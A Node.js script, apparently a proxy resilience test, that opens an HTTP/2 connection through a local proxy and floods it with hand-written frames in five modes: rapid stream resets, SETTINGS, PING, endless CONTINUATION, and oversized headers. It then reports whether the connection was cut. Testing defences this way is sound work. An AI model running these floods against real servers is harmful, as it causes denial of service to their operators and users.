// Attacks one HTTP/2 connection through the proxy, and says how it ended. Node.js has no such frames in its API, so they
// are written by hand.
//
// usage: node http2_flood.mjs KIND PROXY_PORT AUTHORIZATION HOST PORT CA_FILE
//
// KIND is reset, settings, ping, continuation, or headers.
import { readFileSync } from "node:fs"
import net from "node:net"
import tls from "node:tls"

const [kind, proxyPort, authorization, host, port, caFile] = process.argv.slice(2)
const authority = `${host}:${port}`

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

// A field that is not indexed, with a new name (RFC 7541, section 6.2.2).
function field(name, value) {
  const length = (text) => {
    if (text.length < 127) return Buffer.from([text.length])
    const bytes = [127]
    let rest = text.length - 127
    for (; rest >= 128; rest >>= 7) bytes.push((rest & 127) | 128)
    return Buffer.from([...bytes, rest])
  }
  return Buffer.concat([Buffer.from([0]), length(name), Buffer.from(name), length(value), Buffer.from(value)])
}

const head = Buffer.concat([
  field(":method", "GET"),
  field(":scheme", "https"),
  field(":authority", authority),
  field(":path", "/items"),
])
let stream = -1
const attacks = {
  reset: () => Buffer.concat([frame(1, 5, (stream += 2), head), frame(3, 0, stream, Buffer.from([0, 0, 0, 8]))]),
  settings: () => frame(4, 0, 0),
  ping: () => frame(6, 0, 0, Buffer.alloc(8)),
  continuation: () => {
    const first = stream < 0
    stream = 1
    return first ? frame(1, 1, 1, head) : frame(9, 0, 1, field("x-more", "y".repeat(8000)))
  },
  headers: () => {
    const long = [head, ...Array.from({ length: 12 }, () => field("x-more", "y".repeat(8000)))]
    const pieces = Buffer.concat(long)
    const frames = [frame(1, 1, (stream += 2), pieces.subarray(0, 16000))]
    for (let at = 16000; at < pieces.length; at += 16000) {
      const last = at + 16000 >= pieces.length
      frames.push(frame(9, last ? 4 : 0, stream, pieces.subarray(at, at + 16000)))
    }
    return Buffer.concat(frames)
  },
}

const started = Date.now()
const socket = net.connect(Number(proxyPort), "127.0.0.1")
socket.write(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\nProxy-Authorization: ${authorization}\r\n\r\n`)
await new Promise((resolve) => socket.once("data", resolve))
const secure = tls.connect({ socket, servername: host, ca: readFileSync(caFile), ALPNProtocols: ["h2"] })
await new Promise((resolve, reject) => secure.once("secureConnect", resolve).once("error", reject))
let ended = false
const end = () => (ended = true)
secure.on("error", end).on("close", end).on("end", end)
secure.resume()
secure.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
secure.write(frame(4, 0, 0))
let sent = 0
while (!ended && Date.now() - started < 60_000) {
  const batch = Buffer.concat(Array.from({ length: 50 }, attacks[kind]))
  sent += 50
  if (!secure.write(batch)) {
    await Promise.race([
      new Promise((resolve) => secure.once("drain", resolve)),
      new Promise((resolve) => secure.once("close", resolve)),
    ])
  } else {
    await new Promise((resolve) => setImmediate(resolve))
  }
}
console.log(JSON.stringify({ ended, sent, alpn: secure.alpnProtocol }))
process.exit(0)
